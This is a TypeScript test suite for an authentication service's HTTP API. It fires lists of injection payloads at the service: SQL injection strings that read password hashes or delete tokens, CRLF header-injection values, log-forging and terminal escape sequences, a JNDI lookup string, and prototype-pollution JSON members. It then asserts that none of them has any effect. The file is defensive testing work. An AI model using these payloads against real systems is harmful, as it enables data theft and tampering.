import { isDeepStrictEqual } from 'node:util';
import { test, type Test } from 'tap';
import { anAccount, bearer, type Pair } from '../support/client.ts';
import { signUpOver } from '../support/over-http.ts';
import { exchange } from '../support/raw.ts';
import { basic } from '../support/registered-service.ts';
import { sql } from '../support/sql.ts';
import { until } from '../support/until.ts';
import '../support/watch-leaks.ts';
import { attackedOperations, bodyOf, headersOf, inParallel } from './operations.ts';
import { aTarget, assertStillGood, credentialsFor, recordOf, type Target } from './target.ts';

/** Texts that mean more than themselves to something. Where one has an effect or is logged, the word shows. */
const TEXTS = [
  // To a database. A username has no spaces.
  "injected' OR '1'='1",
  "injected'/**/OR/**/'1'='1",
  "'||lo_create(0)||'injected",
  "'--injected",
  "injected'",
  '" OR ""="injected',
  "'; CREATE TABLE injected (x int); --",
  '1; CREATE TABLE injected (x int)',
  "'||(SELECT lo_create(0))||'injected",
  "injected' UNION SELECT 1, username, email, name, password_hash, now(), NULL FROM users --",
  "injected' AND 1=CAST((SELECT password_hash FROM users LIMIT 1) AS int) --",
  "injected'; UPDATE users SET disabled_at = now(); --",
  "injected\\'; DELETE FROM tokens; --",
  '$$; DELETE FROM tokens; $$injected',
  '\uff07; DELETE FROM tokens; --injected',
  '$1',
  '%',
  '_',
  '%_%',
  // To the head of an answer. The low bytes of some characters are CR and LF.
  ...['\r\n', '\n', '\r', '\r\n\r\n<script>', '%0d%0a', '\u560d\u560a', '\u010d\u010a'].map(
    (end) => `lk${end}X-Injected: 1`,
  ),
  ...['\u0085', '\u2028', '\v', '\0'].map((end) => `lk${end}X-Injected: 1`),
  // To a log, a terminal that shows one, or a logger.
  '\n{"level":"info","time":"2026-01-01T00:00:00.000Z","msg":"injected"}\n',
  '","msg":"injected","x":"',
  'injected\u001b[2J\u001b]8;;http://evil.example\u0007',
  'injected\u009b2J',
  'injected\b\b\b',
  'injected\u007f',
  'injected\u202e',
  'injected\\u000a\\n',
  '${jndi:ldap://injected.example/x}',
  '%s %o %j %d injected',
  // To an object.
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasownproperty',
  'then',
  '__proto__[injected]',
  '__proto__.injected',
  'constructor[prototype][injected]',
];

/** Names whose characters mean something in a header, an address or a page. */
const NAMES = ['zoë', 'ада', '李四', 'אדה', 'a,b;c="d"', "a'b\\c", '%%41', 'a%2fb', '<b>', '../..'];

const CARGO = '{"injected":true,"admin":true,"status":200}';
/** Members of a JSON object that an object has already. */
const MEMBERS = [
  ...[CARGO, 'null', '"injected"', `{"__proto__":${CARGO}}`].map((value) => `"__proto__":${value}`),
  `"\\u005f_proto__":${CARGO}`,
  `"constructor":{"prototype":${CARGO}}`,
  `"constructor":{"constructor":{"prototype":${CARGO}}}`,
  ...['prototype', 'toString', 'hasOwnProperty', 'toJSON', 'then'].map((name) => `"${name}":${CARGO}`),
];

/** What only a database writes. By chance, a token may have it too. */
const OF_THE_DATABASE = /syntax error|unterminated|pg_|relation "|prisma|invalid input syntax/i;

/** One request. */
interface Attempt {
  line: string;
  headers: readonly string[];
  body?: string | undefined;
  text: string;
  /** Statuses that show that the text was taken as a text; without them, any that is no failure. */
  expects?: number[];
}

/** Of refused strangers too. */
const EVERY_LINE = { LOG_REQUESTS: 'all', LOG_LEVEL: 'debug' };

test('no text in a field of a body has another meaning', async (t) => {
  const target = await aTarget(t, EVERY_LINE);
  await assertHarmless(t, target, 'may add', async () => {
    const attacker = await signUpOver(target.url, anAccount());
    const operations = attackedOperations(attacker.user.id).filter(({ body }) => body !== null);
    return operations.flatMap((operation) => {
      const { authorization } = credentialsFor(target, operation, attacker.access_token);
      const type = headersOf(operation)['content-type'] ?? '';
      return [...Object.keys(operation.body ?? {}), 'injected'].flatMap((name) =>
        TEXTS.map((text): Attempt => {
          // A name that is taken would be refused before the text is read.
          const { username, email } = anAccount();
          const own = Object.entries({ username, email }).filter(([key]) => key in (operation.body ?? {}));
          const values = { ...operation.body, ...Object.fromEntries(own), [name]: text };
          return {
            line: `${operation.method} ${operation.path}`,
            headers: [`Authorization: ${authorization}`, `Content-Type: ${type}`],
            body: bodyOf(operation, values),
            text,
          };
        }),
      );
    });
  });
});

test('no text in a login opens an account', async (t) => {
  const target = await aTarget(t, EVERY_LINE);
  const { username, email, password } = target.account;
  await assertHarmless(t, target, 'refuses', () =>
    TEXTS.flatMap((text) => [
      ...[text, username + text, email + text].map((name) => ({ username: name, password })),
      ...[text, password + text].map((tried) => ({ username, password: tried })),
    ]).map((body) => ({
      line: 'POST /api/auth',
      headers: ['Content-Type: application/json'],
      body: JSON.stringify(body),
      text: JSON.stringify(body),
      // A NUL is in no name.
      expects: [401, 400],
    })),
  );
});

test('no text in a path, a query, a header, a form or a credential has another meaning', async (t) => {
  const target = await aTarget(t, EVERY_LINE);
  const { pair, client } = target;
  const user = `Authorization: Bearer ${pair.access_token}`;
  const service = (credentials: typeof client) => `Authorization: ${basic(credentials).authorization}`;
  const form = 'Content-Type: application/x-www-form-urlencoded';
  const introspect = 'POST /api/auth/introspect';
  await assertHarmless(t, target, 'refuses', () =>
    TEXTS.flatMap((text): Attempt[] => {
      const part = encodeURIComponent(text);
      // Else the client would send two headers.
      const value = text.replaceAll('\r\n', '\t');
      const at = (line: string, headers: string[], expects?: number[]): Attempt =>
        expects ? { line, headers, text, expects } : { line, headers, text };
      const post = (line: string, by: string, body: string, expects: number[]): Attempt => ({
        line,
        headers: [by, form],
        body,
        text,
        expects,
      });
      return [
        ...['/api/auth/', '/api/auth/1', '/api/auth/llt/'].map((path) =>
          at(`DELETE ${path}${part}`, [user], [400, 404]),
        ),
        at(`DELETE /api/auth?id=${part}`, [user], [400]),
        at(`DELETE /api/auth?${part}=1`, [user], [400]),
        at(`GET /api/user/tokens?ended_before=${part}`, [user], [400]),
        at(`DELETE /api/user/tokens?keep=${part}`, [user], [400]),
        ...['username', 'email', 'id', 'after'].map((name) =>
          at(`GET /api/users?${name}=${part}`, [service(client)], [200, 400]),
        ),
        ...['/', '/docs/', '/docs?', '//evil.example/', '/.well-known/jwks.json?', '/api/user?x='].map(
          (path) => at(`GET ${path}${part}`, [user]),
        ),
        ...['OPTIONS', 'TRACE'].map((method) => at(`${method} /api/auth/verify/${part}`, [user])),
        at('GET /api/user', [`Authorization: Bearer ${value}`], [400, 401]),
        at('GET /api/auth/revocations', [`Last-Event-ID: ${value}`], [400, 401]),
        ...HEADERS.filter((name) => name !== 'X-Request-Id' || isRefusedId(text)).map((name) =>
          at('GET /api/auth/verify', [user, `${name}: ${value}`]),
        ),
        at('GET /api/auth/verify', [user, `injected${value}`]),
        at(text.trim(), [user], [400, 404, 431]),
        ...['application/json', 'application/x-www-form-urlencoded', 'text/plain; x="injected"'].map(
          (type) => ({
            line: 'POST /api/auth/signup',
            headers: [`Content-Type: ${type}`],
            body: text,
            text,
            expects: [400, 415],
          }),
        ),
        post(introspect, service(client), `token=${part}`, [200]),
        post(introspect, service(client), `token=${pair.access_token}&token_type_hint=${part}`, [200]),
        post(introspect, service(client), `${part}=x&token=${pair.access_token}`, [200]),
        post('POST /api/auth/revoke', service(client), `token=${part}`, [200]),
        ...[text, part].flatMap((name) => [
          post(introspect, service({ ...client, serviceId: name }), 'token=x', [401]),
          post(introspect, service({ ...client, secret: name }), 'token=x', [401]),
        ]),
      ];
    }),
  );
});

const HEADERS = [
  'X-Request-Id',
  'traceparent',
  'tracestate',
  'baggage',
  'User-Agent',
  'Referer',
  'Cookie',
  'Accept',
  'Origin',
  'Forwarded',
  'X-Forwarded-For',
  'X-Forwarded-Host',
  'If-None-Match',
  'Last-Event-ID',
  'Content-Type',
  'Expect',
  'X-Auth-Username',
  'Host',
];

test('no member of a JSON body changes a prototype', async (t) => {
  const target = await aTarget(t, EVERY_LINE);
  const operations = attackedOperations().filter(({ contentType }) => contentType === 'application/json');
  await assertHarmless(t, target, 'refuses', () =>
    operations.flatMap((operation) => {
      const good = bodyOf(operation) ?? '{}';
      const headers = [
        'Content-Type: application/json',
        `Authorization: ${credentialsFor(target, operation).authorization}`,
      ];
      return MEMBERS.flatMap((member) => [
        good.replace('{', `{${member},`),
        good.replace(/\}$/, `,${member}}`),
        good.replace(/:"[^"]*"/, `:{${member}}`),
        `[{${member}}]`,
      ])
        .filter((body) => body !== good)
        .map((body) => ({
          line: `${operation.method} ${operation.path}`,
          headers,
          body,
          text: body,
          expects: [400],
        }));
    }),
  );
});

test('a text that is a valid name is stored as it was sent, and a header tells it in ASCII', async (t) => {
  const target = await aTarget(t);
  const { url, databaseUrl } = target;
  const signUp = async (account: object) => {
    const headers = { 'content-type': 'application/json' };
    const body = JSON.stringify({ ...anAccount(), ...account });
    const response = await fetch(`${url}/api/auth/signup`, { method: 'POST', headers, body });
    t.ok([200, 400].includes(response.status), `answers ${response.status}`);
    return response.status === 200 ? ((await response.json()) as Pair) : null;
  };
  const [kept, names] = [new Set<string>(), new Set<string>()];
  for (const text of [...TEXTS, ...NAMES]) {
    const named = await signUp({ name: text, device: text, password: `crown jewels ${text}` });
    if (named) {
      kept.add(text);
      const response = await fetch(`${url}/api/user`, { headers: bearer(named.access_token) });
      const { name, tokens } = (await response.json()) as { name: string; tokens: { name: string }[] };
      t.strictSame([name, tokens.map((token) => token.name)], [text.trim(), [text.trim()]]);
    }
    const called = await signUp({ username: text, email: `${encodeURIComponent(text)}x@example.com` });
    if (!called) continue;
    names.add(text);
    const { username, id } = called.user;
    const rows = await sql(databaseUrl, 'SELECT id::int FROM users WHERE username = $1', [username]);
    t.strictSame(rows, [{ id }]);
    const verified = await fetch(`${url}/api/auth/verify`, { headers: bearer(called.access_token) });
    const header = verified.headers.get('x-auth-username') ?? '';
    t.match(header, /^[!-~]+$/, `${encodeURIComponent(text)} is ASCII`);
    t.equal(decodeURIComponent(header), username);
    t.equal(verified.headers.get('x-injected'), null);
  }
  t.ok(kept.size > 20 && kept.has('__proto__'), `${kept.size} were valid names`);
  t.ok(names.size > 10 && names.has('__proto__') && names.has('%%41'), `${names.size} were valid usernames`);
  await assertStillGood(t, target);
});

test('a caller’s request id is returned if it is harmless, and replaced otherwise', async (t) => {
  const target = await aTarget(t);
  const idFor = async (line: string, id: string) => {
    const received = await send(target, { line, headers: [`X-Request-Id: ${id}`], text: id });
    const [head = '', body = ''] = received.split('\r\n\r\n');
    return [/^x-request-id: (.*)$/im.exec(head)?.[1], body] as const;
  };
  for (const id of ['a', 'A-0', 'x'.repeat(64), '-'])
    for (const line of ['GET /nowhere', 'PUT /api/auth', 'GET /api/user', 'DELETE /api/auth/%zz'])
      t.equal((await idFor(line, id))[0], id, line);
  for (const id of [...TEXTS, ...NAMES, 'x'.repeat(65), 'a b', 'a_b', 'a.b', 'a;b', 'ä', ''].filter(
    isRefusedId,
  )) {
    const [returned, body] = await idFor('GET /nowhere', id);
    t.match(returned, /^[0-9a-f-]{36}$/, `${encodeURIComponent(id)} is replaced`);
    t.notOk(id.length > 3 && body.includes(id), 'nor in the body');
  }
});

/** A harmless word, and a text that ends the header or the request, is none to replace. */
function isRefusedId(text: string): boolean {
  return !/^[a-z-]+$/i.test(text) && !/[\r\n\0]/.test(text);
}

/**
 * Makes all attempts. Each gets one answer, which is no failure and has only headers of ours. After them, no prototype
 * has another property, and the log has one line for each, with nothing of the text. The database has every row as
 * before, no other table and no other object; where all attempts are refused, no other row either.
 */
async function assertHarmless(
  t: Test,
  target: Target,
  rows: 'refuses' | 'may add',
  prepare: () => Attempt[] | Promise<Attempt[]>,
): Promise<void> {
  const [prototypes, record] = [ownNames(), await recordOf(target)];
  const attempts = await prepare();
  const requests = () => target.log().split('"msg":"request"').length - 1;
  const [logged, loggedBefore] = [target.log().length, requests()];
  const faults: string[] = [];
  await inParallel(attempts, async (attempt) => {
    const found = faultsIn(await send(target, attempt), attempt);
    faults.push(...found.map((fault) => `${attempt.line} ${JSON.stringify(attempt.text)}: ${fault}`));
  });
  t.ok(attempts.length > 100, `${attempts.length} attempts`);
  t.strictSame(faults.slice(0, 20), [], `${faults.length} faults`);

  t.strictSame(ownNames(), prototypes, 'the prototypes are unchanged');
  await until(() => requests() - loggedBefore >= attempts.length);
  assertLog(t, target.log().slice(logged), attempts.length);
  const after = await recordOf(target);
  const isKept = (name: string, row: unknown) => after[name]?.some((it) => isDeepStrictEqual(it, row));
  if (rows === 'refuses') t.strictSame(after, record, 'no row and no table was added, changed or deleted');
  t.strictSame(Object.keys(after), Object.keys(record), 'no table was added');
  for (const [name, all] of Object.entries(record))
    t.ok(
      all.every((row) => isKept(name, row)),
      `no row of ${name} was changed or deleted`,
    );
  const objects = await sql(target.databaseUrl, 'SELECT oid FROM pg_largeobject_metadata');
  t.strictSame(objects, [], 'no other object was added');
  await assertStillGood(t, target);
}

/** The instance runs in this process, so these are its prototypes too. */
function ownNames(): string[][] {
  const types = [Object, Array, Function, String, Map, Promise, Error];
  return types.map(({ prototype }) => Reflect.ownKeys(prototype as object).map(String));
}

/** Sends raw bytes, which `fetch` would refuse. The connection closes after one answer. */
function send({ url }: Target, { line, headers, body = '' }: Attempt): Promise<string> {
  const host = headers.some((header) => header.startsWith('Host:')) ? [] : ['Host: x'];
  const length = `Content-Length: ${Buffer.byteLength(body)}`;
  const head = [`${line} HTTP/1.1`, ...host, 'Connection: close', length, ...headers];
  return exchange(url, `${head.join('\r\n')}\r\n\r\n${body}`);
}

/** @param received all bytes of one connection */
function faultsIn(received: string, { text, expects }: Attempt): string[] {
  const [head = '', ...rest] = received.split('\r\n\r\n');
  const status = Number(received.split(' ')[1]);
  // An answer may tell a name to its owner.
  const ours = rest.join().replaceAll(JSON.stringify(text).slice(1, -1), '');
  const faults: [boolean, string][] = [
    [!(status < 500) || expects?.includes(status) === false, `answers ${status} ${ours}`],
    [received.split(/^HTTP\/1\.1 /m).length !== 2, 'more or fewer than one answer'],
    [/^(?:x-injected|set-cookie)/im.test(head), 'a header was added'],
    [/[^\r]\n|\r[^\n]|[^\r\n\t -~]/.test(head), 'a header is not ASCII on a line of its own'],
    [/^location: *(?:\/\/|http)/im.test(head), 'the answer redirects the caller to another site'],
    [status >= 400 && OF_THE_DATABASE.test(ours), `the answer shows output of the database: ${ours}`],
  ];
  return faults.filter(([isThere]) => isThere).map(([, fault]) => fault);
}

/** Every line is one JSON object of ours and contains nothing of the texts. */
function assertLog(t: Test, log: string, requests: number): void {
  const lines = log.split('\n');
  t.equal(lines.pop(), '', 'the last line is complete');
  const entries = lines.map((line) => {
    try {
      return JSON.parse(line) as Record<string, unknown>;
    } catch {
      t.fail(`not JSON: ${line.slice(0, 200)}`);
      return {};
    }
  });
  t.ok(entries.every((entry) => typeof entry === 'object' && 'level' in entry && 'msg' in entry));
  t.notMatch(log.replaceAll('\n', ''), /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u, 'no control characters');
  t.strictSame(lines.filter((line) => /injected/i.test(line)).slice(0, 5), [], 'no text is logged');
  t.equal(entries.filter(({ msg }) => msg === 'request').length, requests, 'one line for each request');
}
